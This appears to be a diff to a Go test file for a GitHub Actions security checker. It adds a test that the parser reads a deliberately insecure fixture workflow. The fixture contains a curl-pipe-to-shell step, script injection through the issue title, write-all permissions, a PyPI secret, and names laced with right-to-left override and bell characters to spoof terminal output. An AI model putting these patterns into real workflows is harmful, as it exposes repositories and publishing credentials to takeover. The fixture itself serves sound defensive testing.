@@ -56,7 +56,8 @@ jobs:
 // evilWorkflow does everything wrong that a check looks for, under names that attack a
 // terminal.
 const evilWorkflow = "on:\n  pull_request_target:\n  push:\npermissions: write-all\njobs:\n  publish:\n    runs-on: self-hosted\n    steps:\n" +
-	"      - uses: evil/\u202eaction@v1\u0007\n" +
+	"      - uses: actions/checkout@v4\n        with: {ref: \"ma\u202ein\\a\"}\n" +
+	"      - uses: \"evil/\u202eaction@v1\\a\"\n" +
 	"      - run: |\n          curl https://example.org/\u202ex | sh # ${{ github.event.issue.title }}\n          twine upload dist/*\n" +
 	"        env: {TWINE_PASSWORD: '${{ secrets.PYPI }}'}\n"
 
@@ -124,4 +125,12 @@ func TestWorkflowsUnread(t *testing.T) {
 
 func needsProgramAlone(c checks.Check) bool {
 	return len(c.Needs) == 1 && c.Needs[0] == checks.PartProgram
+}
+
+// TestEvilIsUnderstood holds that what is found in the evil workflow is found by what
+// it says, and not since nobody understands it.
+func TestEvilIsUnderstood(t *testing.T) {
+	if f := actions.Parse(actions.Ref{Path: actions.Dir + "/evil.yml"}, []byte(evilWorkflow)); !f.Problem.IsZero() {
+		t.Error(f.Problem)
+	}
 }
